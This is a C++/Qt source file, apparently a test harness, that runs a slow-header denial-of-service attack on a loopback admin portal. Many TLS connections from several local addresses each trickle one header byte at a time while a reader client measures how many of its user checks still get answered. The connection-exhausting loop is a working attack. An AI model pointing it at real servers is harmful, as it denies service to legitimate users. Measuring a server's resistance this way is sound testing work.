// Slow-header attack on a loopback portal, with a reader beside it: every
// attacker address (127.0.0.2 on) keeps up to --per-address TLS connections
// open, sending one header byte on each every --interval seconds and opening
// again whatever the portal closed; meanwhile the reader, from 127.0.0.1,
// sends user checks on fresh connections at --rate per second. Prints how
// many of the reader's checks were answered, and how many within 1 s.
#include "LoadRun.h"

#include <QCommandLineParser>
#include <QCoreApplication>
#include <QElapsedTimer>
#include <QNetworkAccessManager>
#include <QNetworkReply>
#include <QSslCertificate>
#include <QSslConfiguration>
#include <QSslSocket>
#include <QTimer>

#include <algorithm>
#include <cstdio>
#include <memory>
#include <vector>

namespace {

struct Attacker
{
    QHostAddress source;
    std::vector<std::unique_ptr<QSslSocket>> sockets;
};

void openAttack(QSslSocket *socket, const QHostAddress &source, quint16 port)
{
    socket->abort();
    socket->setPeerVerifyMode(QSslSocket::VerifyNone);
    socket->bind(source);
    socket->connectToHostEncrypted(QStringLiteral("127.0.0.1"), port);
}

} // namespace

int main(int argc, char **argv)
{
    QCoreApplication app(argc, argv);
    QCommandLineParser parser;
    parser.addHelpOption();
    parser.addOptions({
        {"port", "Portal port on 127.0.0.1.", "n"},
        {"ca", "PEM file of the CA to trust.", "file"},
        {"body", "User-check body.", "body", "user=reader@velkarn.example"},
        {"addresses", "Attacking addresses.", "n", "8"},
        {"per-address", "Connections per attacking address.", "n", "64"},
        {"interval", "Seconds between an attacker's bytes.", "s", "10"},
        {"rate", "Reader's user checks per second.", "r", "4"},
        {"warmup", "Seconds of attack before the reader starts.", "s", "5"},
        {"seconds", "Seconds the reader measures.", "s", "80"},
        {"label", "Name printed with the figures.", "text", "slow headers"},
    });
    parser.process(app);
    if (!parser.isSet("port") || !parser.isSet("ca")) {
        std::fputs("slow_headers: --port and --ca are required\n", stderr);
        return 2;
    }
    const quint16 port = quint16(parser.value("port").toUInt());
    const int perAddress = parser.value("per-address").toInt();

    std::vector<Attacker> attackers(size_t(parser.value("addresses").toInt()));
    for (size_t a = 0; a < attackers.size(); ++a) {
        attackers[a].source = QHostAddress(QStringLiteral("127.0.0.%1").arg(a + 2));
        for (int i = 0; i < perAddress; ++i) {
            auto socket = std::make_unique<QSslSocket>();
            QSslSocket *raw = socket.get();
            QObject::connect(raw, &QSslSocket::encrypted, raw, [raw] {
                raw->write("POST /adminportal/pdfuserchk.php HTTP/1.1\r\nHost: localhost\r\nX-Slow: ");
            });
            openAttack(raw, attackers[a].source, port);
            attackers[a].sockets.push_back(std::move(socket));
        }
    }
    // Each round: one byte on every open connection, the closed ones opened again.
    QTimer rounds;
    QObject::connect(&rounds, &QTimer::timeout, [&] {
        for (Attacker &attacker : attackers) {
            for (const auto &socket : attacker.sockets) {
                if (socket->isEncrypted() && socket->state() == QAbstractSocket::ConnectedState)
                    socket->write("a");
                else if (socket->state() == QAbstractSocket::UnconnectedState)
                    openAttack(socket.get(), attacker.source, port);
            }
        }
    });
    rounds.start(int(parser.value("interval").toDouble() * 1000));

    QNetworkAccessManager network;
    QSslConfiguration ssl = QSslConfiguration::defaultConfiguration();
    ssl.addCaCertificates(QSslCertificate::fromPath(parser.value("ca")));
    const QByteArray body = parser.value("body").toUtf8();
    const double rate = parser.value("rate").toDouble();
    const qint64 measureMs = qint64(parser.value("seconds").toDouble() * 1000);
    QElapsedTimer clock;
    qint64 sent = 0;
    qint64 answered = 0;
    qint64 inFlight = 0;
    LoadResult answers; // only the answered checks
    bool sending = true;

    QTimer reader;
    QObject::connect(&reader, &QTimer::timeout, [&] {
        if (clock.elapsed() >= measureMs) {
            sending = false;
            reader.stop();
            if (inFlight == 0)
                app.quit();
            return;
        }
        QNetworkRequest request{QUrl(QStringLiteral("https://127.0.0.1:%1/adminportal/pdfuserchk.php").arg(port))};
        request.setSslConfiguration(ssl);
        request.setHeader(QNetworkRequest::ContentTypeHeader, QByteArrayLiteral("application/x-www-form-urlencoded"));
        // A fresh connection each time: the reader must win a slot every time.
        request.setRawHeader("Connection", "close");
        request.setTransferTimeout(30000);
        QElapsedTimer *started = new QElapsedTimer;
        started->start();
        ++sent;
        ++inFlight;
        QNetworkReply *reply = network.post(request, body);
        QObject::connect(reply, &QNetworkReply::finished, [&, reply, started] {
            const double ms = double(started->nsecsElapsed()) / 1e6;
            delete started;
            if (reply->error() == QNetworkReply::NoError
                && reply->attribute(QNetworkRequest::HttpStatusCodeAttribute).toInt() == 200) {
                ++answered;
                answers.latenciesMs.append(ms);
            }
            reply->deleteLater();
            if (--inFlight == 0 && !sending)
                app.quit();
        });
    });
    QTimer::singleShot(int(parser.value("warmup").toDouble() * 1000), [&] {
        clock.start();
        reader.start(int(1000.0 / rate));
    });
    app.exec();

    const qint64 withinSecond = std::count_if(answers.latenciesMs.cbegin(), answers.latenciesMs.cend(),
                                              [](double ms) { return ms <= 1000.0; });
    const double share = sent > 0 ? 100.0 * double(withinSecond) / double(sent) : 0;
    std::printf("%-28s %5lld checks  %5lld answered  %5lld within 1 s (%5.1f%%)  p50 %7.1f ms  p99 %7.1f ms  max %7.1f ms\n",
                qPrintable(parser.value("label")), static_cast<long long>(sent), static_cast<long long>(answered),
                static_cast<long long>(withinSecond), share, answers.percentile(50), answers.percentile(99),
                answers.percentile(100));
    return 0;
}
